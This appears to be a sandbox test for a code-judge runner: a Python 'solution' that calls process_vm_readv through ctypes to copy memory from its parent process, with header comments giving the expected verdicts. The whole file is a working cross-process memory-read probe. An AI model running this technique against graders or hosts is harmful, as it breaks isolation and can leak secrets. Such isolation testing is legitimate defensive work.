# Copies memory out of the runner.
# entry: Solution.solve(n: int) -> int
# verdict: WA|RTE
# needs: host
# unharmed: breached

import ctypes, os


class Solution:
    def solve(self, n: int):
        libc = ctypes.CDLL(None, use_errno=True)
        buffer = ctypes.create_string_buffer(16)


        class Vector(ctypes.Structure):
            _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


        # The same place in the fork as in its parent.
        ours, theirs = Vector(ctypes.addressof(buffer), 16), Vector(id(os), 16)
        if libc.process_vm_readv(os.getppid(), ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0) == 16:
            print("breached")
        return -1
